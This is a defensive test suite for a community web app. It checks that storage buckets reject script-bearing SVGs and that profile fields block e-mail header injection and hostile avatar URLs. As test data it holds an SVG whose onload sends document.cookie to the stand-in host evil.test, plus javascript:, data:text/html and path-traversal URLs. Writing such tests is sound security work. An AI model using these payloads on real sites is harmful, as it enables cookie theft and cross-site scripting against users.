import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { publicUrlOf } from '@/lib/data/media';
import type { TablesUpdate } from '@/lib/database.types';
import { AVATAR_BUCKET, MEDIA_BUCKET, mediaObjectPath } from '@/lib/media/rules';
import { startCommunityWorld, type CommunityWorld, type Person } from './support/community';

// Issue 34, findings 1 and 2, each tried as the attacker's request through supabase-js against the app's
// migrations: an editor's SVG with a script in the public media bucket, and profile fields written over REST
// with no bounds (a name for other members' e-mails, a bio, an avatar_url of javascript: or any host).

let world: CommunityWorld;
let editor: Person;
let member: Person;
let other: Person;

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(`//evil.test/?c=${document.cookie}`)"/>';
const PNG = Uint8Array.from(
  atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='),
  (c) => c.charCodeAt(0),
);
const libraryPath = (ext: string) =>
  mediaObjectPath({ name: 'logo', type: 'image/png' }, new Date(), world.uniq('x').replace(/\W/g, '')).replace(/png$/, ext);

beforeAll(async () => {
  world = await startCommunityWorld();
  [editor, member, other] = [await world.person('editor'), await world.person(), await world.person()];
}, 120_000);
afterAll(() => world?.stack.stop());

describe('storage', () => {
  it("refuses an editor's SVG in the media bucket, declared as SVG or disguised as a PNG", async () => {
    const media = editor.client.storage.from(MEDIA_BUCKET);
    const declared = await media.upload(libraryPath('svg'), new Blob([SVG], { type: 'image/svg+xml' }));
    expect(declared.error).toMatchObject({ statusCode: '415' });
    const disguised = await media.upload(libraryPath('png'), new Blob([SVG], { type: 'image/png' }));
    expect(disguised.error).toMatchObject({ statusCode: '415' });
    const { rows } = await world.stack.db.query(`select name from storage.objects where bucket_id = 'media'`);
    expect(rows).toEqual([]);
  });

  it("refuses the same in a member's own avatar folder", async () => {
    const avatars = member.client.storage.from(AVATAR_BUCKET);
    for (const type of ['image/svg+xml', 'image/png', 'text/html']) {
      const { error } = await avatars.upload(
        `${member.id}/avatar-${world.uniq('a').replace(/\W/g, '')}.png`,
        new Blob([SVG], { type }),
      );
      expect([type, error?.statusCode]).toEqual([type, '415']);
    }
  });

  it('admits no SVG, HTML or XML type in any public bucket', async () => {
    const { rows } = await world.stack.db.query<{ id: string; types: string[] | null }>(
      'select id, allowed_mime_types as types from storage.buckets where public order by id',
    );
    expect(rows.map((r) => r.id)).toEqual(['avatars', 'media']);
    for (const { id, types } of rows) {
      // No list would admit everything; a wildcard would admit image/svg+xml.
      expect(types?.length, id).toBeGreaterThan(0);
      for (const type of types ?? []) expect(type, id).toMatch(/^(image\/(jpeg|png|webp|gif|avif)|application\/pdf)$/);
    }
  });

  it('serves an uploaded picture with nosniff', async () => {
    const path = libraryPath('png');
    expect(
      (await editor.client.storage.from(MEDIA_BUCKET).upload(path, new Blob([PNG], { type: 'image/png' }))).error,
    ).toBeNull();
    const res = await fetch(publicUrlOf(editor.client, MEDIA_BUCKET, path));
    expect([res.status, res.headers.get('content-type'), res.headers.get('x-content-type-options')]).toEqual([
      200,
      'image/png',
      'nosniff',
    ]);
  });
});

describe('profile fields', () => {
  type Patch = Pick<TablesUpdate<'profiles'>, 'name' | 'bio' | 'avatar_url'>;
  const code = async (who: Person, patch: Patch) =>
    (await who.client.from('profiles').update(patch).eq('id', who.id)).error?.code ?? null;

  it('bound the name to 100 characters without control characters, and the bio to 2,000', async () => {
    expect(await code(member, { name: 'A'.repeat(101) })).toBe('23514');
    expect(await code(member, { name: 'Asha\r\nBcc: everyone@example.com' })).toBe('23514');
    expect(await code(member, { name: 'Asha\u0085Rao' })).toBe('23514');
    expect(await code(member, { bio: 'x'.repeat(2001) })).toBe('23514');
    expect(await code(member, { name: 'अ'.repeat(100), bio: 'Line one.\nLine two.'.padEnd(2000, '.') })).toBeNull();
  });

  it("takes an avatar_url only in the profile's own avatars folder", async () => {
    const own = publicUrlOf(member.client, AVATAR_BUCKET, `${member.id}/avatar-abc123.png`);
    for (const url of [
      'javascript:alert(document.cookie)',
      'https://evil.test/cat.png',
      `https://evil.test/storage/v1/object/public/media/${member.id}/a.png`,
      publicUrlOf(member.client, AVATAR_BUCKET, `${other.id}/avatar-abc123.png`),
      `${own}?x=1`,
      own.replace('/avatar-abc123.png', `/../${other.id}/a.png`),
      own.replace('://', '://someone@'),
      own.replace('http://', 'data:text/html,'),
    ]) {
      expect([url, await code(member, { avatar_url: url })]).toEqual([url, '23514']);
    }
    for (const url of [own, '', null]) expect([url, await code(member, { avatar_url: url })]).toEqual([url, null]);
    // The rule is the table's: the service role is held to it too.
    const forced = await world.service.from('profiles').update({ avatar_url: 'https://evil.test/x.png' }).eq('id', other.id);
    expect(forced.error?.code).toBe('23514');
  });

  it("cuts a sign-up's name to fit instead of failing the sign-up", async () => {
    const { data, error } = await world.service.auth.admin.createUser({
      email: `${world.uniq('long')}@probe.test`,
      password: 'Demo@12345',
      email_confirm: true,
      user_metadata: { name: ` Asha\u0007\nRao ${'x'.repeat(300)}` },
    });
    expect(error).toBeNull();
    const { rows } = await world.stack.db.query<{ name: string }>('select name from public.profiles where id = $1', [
      data.user!.id,
    ]);
    expect(rows[0].name).toBe(`Asha Rao ${'x'.repeat(91)}`);
  });
});
